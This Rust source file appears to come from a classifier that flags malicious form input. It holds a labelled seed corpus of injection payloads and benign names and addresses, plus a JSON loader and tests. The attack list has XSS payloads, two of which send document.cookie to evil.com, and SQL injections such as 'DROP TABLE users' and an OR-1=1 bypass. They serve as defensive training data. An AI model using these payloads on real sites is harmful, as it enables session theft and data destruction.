use std::path::Path;

use serde::{Deserialize, Serialize};

use super::{ClassifierError, Label};

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LabeledSample {
    pub text: String,
    pub label: Label,
}

const ATTACKS: &[&str] = &[
    "<script>alert('xss')</script>",
    "<script>alert(1)</script>",
    "<script>alert('XSS')</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<img src=x onerror=alert('XSS')>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onload=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<input onfocus=alert(1)>",
    "<div onmouseover='alert(1)'>",
    "javascript:alert(1)",
    "javascript:alert(document.cookie)",
    "<scr<script>ipt>alert('nested')</scr</script>ipt>",
    "<img src='javascript:alert(\"XSS\")'/>",
    "<a href='javascript:alert(1)'>click me</a>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<<SCRIPT>alert('XSS');//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<script>eval('alert(1)')</script>",
    "<script>fetch('http://evil.com?cookie='+document.cookie)</script>",
    "<script>new Image().src='http://evil.com?cookie='+document.cookie;</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "'-prompt(8)-'",
    "'; DROP TABLE users--",
    "' OR '1'='1' --",
    "1; DELETE FROM accounts",
    "admin'--",
];

const NORMALS: &[&str] = &[
    "John Doe",
    "Jane Smith",
    "Robert Johnson",
    "Maria Garcia",
    "Mohammed Ahmed",
    "Li Wei",
    "Alice Smith",
    "Mr. & Mrs. Smith",
    "123 Main Street",
    "123 Main St",
    "456 Elm Avenue",
    "789 Oak Road",
    "321 Pine Lane",
    "159 Maple Drive",
    "O'Connor Street",
    "42 Wallaby Way, Sydney",
    "New York",
    "New York, NY",
    "London, UK",
    "Tokyo, Japan",
    "Paris, France",
    "Sydney, Australia",
    "Downtown LA",
    "San Francisco, CA 94105",
    "Apartment 4B",
    "Suite 200",
    "Floor 15",
    "Building 7",
    "Unit 23",
    "12345",
    "A-123",
    "B/456",
    "C_789",
    "#1000",
    "user@example.com",
    "john.doe@company.com",
    "+1-123-456-7890",
    "(555) 123-4567",
    "555-123-4567",
    "https://example.com",
    "特殊字符测试",
];

/// Seed corpus of injection payloads against ordinary form values.
pub fn builtin_corpus() -> Vec<LabeledSample> {
    tagged(ATTACKS, Label::Attack)
        .chain(tagged(NORMALS, Label::Normal))
        .collect()
}

fn tagged(texts: &'static [&'static str], label: Label) -> impl Iterator<Item = LabeledSample> {
    texts.iter().map(move |text| LabeledSample {
        text: (*text).to_string(),
        label,
    })
}

/// Reads a JSON array of `{"text": .., "label": ..}` objects.
pub fn load_corpus(path: &Path) -> Result<Vec<LabeledSample>, ClassifierError> {
    let raw = std::fs::read_to_string(path).map_err(|source| ClassifierError::Io {
        path: path.display().to_string(),
        source,
    })?;
    let samples: Vec<LabeledSample> = serde_json::from_str(&raw)?;
    if samples.is_empty() {
        return Err(ClassifierError::EmptyCorpus);
    }
    Ok(samples)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_corpus_has_both_classes() {
        let corpus = builtin_corpus();
        assert!(corpus.iter().any(|s| s.label == Label::Attack));
        assert!(corpus.iter().any(|s| s.label == Label::Normal));
        assert_eq!(corpus.len(), ATTACKS.len() + NORMALS.len());
    }

    #[test]
    fn load_corpus_rejects_empty_array() {
        let path = std::env::temp_dir().join(format!(
            "chain_form_guard_empty_corpus_{}.json",
            std::process::id()
        ));
        std::fs::write(&path, "[]").unwrap();
        assert!(matches!(load_corpus(&path), Err(ClassifierError::EmptyCorpus)));
        let _ = std::fs::remove_file(path);
    }
}
